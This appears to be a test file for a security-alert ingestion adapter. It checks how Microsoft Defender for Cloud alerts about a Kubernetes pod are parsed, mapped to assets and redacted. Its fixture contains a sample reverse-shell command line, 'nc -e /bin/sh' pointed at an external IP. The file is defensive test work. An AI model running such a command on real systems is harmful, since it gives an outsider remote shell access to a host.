import { array, assert, constantFrom, dictionary, jsonValue, oneof, property } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { draftAlert } from '@/lib/detect/draft-alert'
import { conformsToAdapter } from '@/lib/ingest/conformance'
import { defenderAdapter } from '.'

const context = { collectedAt: '2026-03-01T12:00:00.000Z', collector: 'defender' }
const aks = '/subscriptions/1/resourceGroups/harbour/providers/Microsoft.ContainerService/managedClusters/prod-eu-1'
const exported = {
  VendorName: 'Microsoft',
  AlertType: 'K8S.NODE_ReverseShell',
  ProductName: 'Microsoft Defender for Cloud',
  StartTimeUtc: '2026-02-28T10:00:00.0000001Z',
  EndTimeUtc: '2026-02-28T10:00:00.0000001Z',
  TimeGenerated: '2026-02-28T10:05:00.1Z',
  ProcessingEndTime: '2026-02-28T10:05:00.1234567Z',
  Severity: 'Medium',
  Status: 'New',
  IsIncident: false,
  SystemAlertId: '57963b4b-3cb0-dc3a-16ed-f1e216311809',
  Intent: 'Exfiltration, Exploitation, PreAttack, Unknown',
  AzureResourceId: aks,
  CompromisedEntity: 'prod-eu-1',
  AlertDisplayName: 'Potential reverse shell detected',
  Description: 'Analysis of the node found a reverse shell in %{Pod name}, as %{nothing}.',
  RemediationSteps: ['Look at the process', 'Block the address'],
  ExtendedProperties: { 'Pod name': 'checkout-6d88f6dcdd-k6bc5', resourceType: 'Kubernetes Service' },
  Entities: [
    { $id: '3', CloudResource: { $id: '4', ResourceId: aks, Type: 'azure-resource' }, Type: 'K8s-cluster' },
    { $id: '5', Name: 'shop', Cluster: { $ref: '3' }, Type: 'K8s-namespace' },
    { $id: '6', Name: 'checkout-6d88f6dcdd-k6bc5', Namespace: { $ref: '5' }, Type: 'K8s-pod' },
    { $id: '7', ImageId: 'ghcr.io/acme/shop:1.4', Digest: `sha256:${'ab'.repeat(32)}`, Type: 'container-image' },
    { $id: '8', Name: 'web', ContainerId: '0f8d7e2a3296', Image: { $ref: '7' }, Pod: { $ref: '6' }, Type: 'container' },
    { $id: '9', Directory: '/bin', Name: 'nc', Type: 'file' },
    {
      $id: '10',
      CommandLine: 'nc -e /bin/sh 203.0.113.9',
      ProcessId: '0x2a',
      ImageFile: { $ref: '9' },
      Type: 'process',
    },
    { $id: '11', Address: '203.0.113.9', Type: 'ip' },
    { $id: '12', Name: 'builder', Namespace: { $ref: '5' }, Type: 'K8s-service-account' },
  ],
  ResourceIdentifiers: [{ $id: '2', AzureResourceId: aks, Type: 'AzureResource' }],
}
const lower = (key: string) => key.slice(0, 1).toLowerCase() + key.slice(1)
const rest = {
  id: `/subscriptions/1/providers/Microsoft.Security/locations/westeurope/alerts/${exported.SystemAlertId}`,
  name: exported.SystemAlertId,
  type: 'Microsoft.Security/Locations/alerts',
  properties: {
    ...Object.fromEntries(Object.entries(exported).map(([key, value]) => [lower(key), value])),
    status: 'Active',
    processingEndTimeUtc: exported.ProcessingEndTime,
  },
}
const row = {
  TenantId: 't',
  TimeGenerated: '2026-02-28T10:05:00.1Z',
  DisplayName: exported.AlertDisplayName,
  AlertName: 'Potential reverse shell',
  AlertSeverity: 'Medium',
  Description: exported.Description,
  ProviderName: 'Azure Security Center',
  AlertType: exported.AlertType,
  StartTime: exported.StartTimeUtc,
  EndTime: exported.EndTimeUtc,
  SystemAlertId: exported.SystemAlertId,
  Status: 'New',
  ResourceId: aks,
  CompromisedEntity: 'prod-eu-1',
  Tactics: 'Exfiltration,Exploitation',
  Techniques: '["T1059"]',
  Entities: JSON.stringify(exported.Entities),
  ExtendedProperties: JSON.stringify(exported.ExtendedProperties),
  RemediationSteps: JSON.stringify(exported.RemediationSteps),
  Type: 'SecurityAlert',
}

conformsToAdapter(
  defenderAdapter,
  [
    { name: 'one of the export', documents: [exported] },
    { name: 'records of an Event Hub', documents: [{ records: [exported] }] },
    { name: 'the list of the REST API', documents: [{ value: [rest], nextLink: null }] },
    { name: 'one that was dismissed', documents: [{ ...exported, Status: 'Dismissed' }] },
  ],
  [
    { name: 'a severity nobody knows', documents: [{ ...exported, Severity: 'Loud' }] },
    { name: 'no time', documents: [{ ...exported, StartTimeUtc: 'soon', EndTimeUtc: null, TimeGenerated: null }] },
    {
      name: 'an alert about a storage account',
      documents: [
        {
          ...exported,
          AlertType: 'Storage.Blob_X',
          AzureResourceId: '/subscriptions/1/providers/Microsoft.Storage/storageAccounts/a',
          Entities: [],
          ResourceIdentifiers: [],
          ExtendedProperties: {},
        },
      ],
    },
  ],
)

function read(document: unknown, cluster = '') {
  const result = defenderAdapter.read([document], { ...context, cluster })
  if (!result.ok) throw new Error(JSON.stringify(result.problems))
  return result.observation
}
const only = (document: unknown, cluster?: string) => {
  const [event] = read(document, cluster).events
  if (!event) throw new Error('no event')
  return event
}
const alertOf = (document: unknown) => draftAlert('defender', only(document))

describe('an alert of Defender', () => {
  it('keeps Microsoft’s type, words, severity, tactics and steps, and stands on the workload', () => {
    expect(alertOf(exported)).toMatchObject({
      type: 'K8S.NODE_ReverseShell',
      title: 'Potential reverse shell detected',
      description: 'Analysis of the node found a reverse shell in checkout-6d88f6dcdd-k6bc5, as %{nothing}.',
      severity: 'medium',
      tactics: ['Reconnaissance', 'Execution', 'Exfiltration', 'Exploitation'],
      remediation: ['Look at the process', 'Block the address'],
      entityKey: 'k8s/prod-eu-1/apps/Deployment/shop/checkout|container/web',
      compromisedEntity: 'shop/checkout',
    })
    expect(only(exported).entities.map(({ kind, name }) => `${kind} ${name}`)).toEqual([
      'cluster prod-eu-1',
      'namespace shop',
      'workload checkout',
      'pod checkout-6d88f6dcdd-k6bc5',
      'image ghcr.io/acme/shop:1.4',
      'container web',
      'file /bin/nc',
      'process nc',
      'ip 203.0.113.9',
      'service-account shop/builder',
    ])
  })

  it('is the same event by export, REST API, command line and Log Analytics', () => {
    const { properties, ...head } = rest
    const tables = {
      tables: [
        { name: 'PrimaryResult', columns: Object.keys(row).map((name) => ({ name })), rows: [Object.values(row)] },
      ],
    }
    const identity = only(exported).identity
    for (const other of [{ value: [rest] }, [{ ...head, ...properties }], row, tables, { records: [row] }]) {
      expect(only(other).identity).toEqual(identity)
      expect(alertOf(other)).toMatchObject({
        type: 'K8S.NODE_ReverseShell',
        title: 'Potential reverse shell detected',
        entityKey: 'k8s/prod-eu-1/apps/Deployment/shop/checkout|container/web',
      })
    }
    expect(alertOf(row)).toMatchObject({ techniques: ['T1059'], remediation: exported.RemediationSteps })
  })

  it('that Defender closed is told as a fact and raises nothing by itself', () => {
    for (const Status of ['Dismissed', 'Resolved']) {
      const alert = alertOf({ ...exported, Status })
      expect(alert?.joinsOnly).toBe(true)
      expect(only({ ...exported, Status })).toMatchObject({
        at: '2026-02-28T10:05:00.123Z',
        fields: { status: `${Status.toLowerCase()} in Defender for Cloud` },
      })
      expect(only({ ...exported, Status }).identity).not.toEqual(only(exported).identity)
    }
    expect(alertOf({ ...exported, Status: 'InProgress' })?.joinsOnly).toBeUndefined()
  })

  it.each([
    [
      'virtual machine',
      { AzureResourceId: '/subscriptions/1/resourceGroups/a/providers/Microsoft.Compute/virtualMachines/vm1' },
      'docker/vm1',
    ],
    [
      'scale set',
      {
        AzureResourceId:
          '/subscriptions/1/resourceGroups/a/providers/Microsoft.Compute/virtualMachineScaleSets/pool/virtualMachines/3',
      },
      'docker/pool_3',
    ],
    [
      'Arc machine',
      { AzureResourceId: '/subscriptions/1/resourceGroups/a/providers/Microsoft.HybridCompute/machines/box' },
      'docker/box',
    ],
    [
      'Arc cluster',
      {
        AlertType: 'K8S_ExposedDashboard',
        AzureResourceId: '/subscriptions/1/resourceGroups/a/providers/Microsoft.Kubernetes/connectedClusters/edge',
      },
      'k8s/edge',
    ],
    [
      'EKS cluster',
      { AlertType: 'K8S_ExposedDashboard', AzureResourceId: 'arn:aws:eks:eu-west-1:123456789012:cluster/web' },
      'k8s/web',
    ],
    [
      'registry',
      { AzureResourceId: '/subscriptions/1/resourceGroups/a/providers/Microsoft.ContainerRegistry/registries/Harbour' },
      'registry/harbour.azurecr.io',
    ],
  ])('of a %s stands on it', (_, more, key) => {
    const event = only({
      ...exported,
      AlertType: 'VM_X',
      Entities: [],
      ResourceIdentifiers: [],
      ExtendedProperties: {},
      ...more,
    })
    expect(event.asset).toBe(key)
    expect(event.stated?.compromised).toBe('prod-eu-1')
  })

  it('of a cluster that it does not name takes the sender’s', () => {
    const nameless = {
      ...exported,
      AzureResourceId: null,
      ResourceIdentifiers: [],
      Entities: [],
      ExtendedProperties: {},
    }
    expect(only(nameless, 'mine').asset).toBe('k8s/mine')
    expect(defenderAdapter.read([nameless], context).ok).toBe(false)
  })

  it('with an id that is none gets one from its name', () => {
    expect(only({ ...exported, AlertType: 'a b/c' }).stated?.type).toBe('Defender_PotentialReverseShellDetected')
  })

  it('keeps no secret of a command line', () => {
    const Entities = [{ $id: '1', CommandLine: 'mysql -psecretpass shop', Type: 'process' }]
    expect(
      JSON.stringify(
        only({ ...exported, Entities, ExtendedProperties: { 'command line': 'mysql -psecretpass shop' } }),
      ),
    ).not.toContain('secretpass')
  })

  it('that points to itself ends', () => {
    const Entities = [{ $id: '1', Name: 'a', Namespace: { $ref: '1' }, Type: 'K8s-pod' }, { $ref: '9' }, { $ref: '1' }]
    expect(only({ ...exported, Entities }).asset).toBe('k8s/prod-eu-1/core/Pod/a/a')
  })

  it('never throws, and what is read stands on an asset that is listed', () => {
    const event = dictionary(
      constantFrom(...Object.keys(exported)),
      oneof(jsonValue(), constantFrom(...Object.values(exported))),
    )
    assert(
      property(array(oneof(event, jsonValue()), { maxLength: 4 }), (documents) => {
        const result = defenderAdapter.read(documents, context)
        if (!result.ok) return
        const keys = new Set(result.observation.assets.map(({ key }) => key))
        for (const { asset } of result.observation.events) expect(keys).toContain(asset)
      }),
    )
  })
})
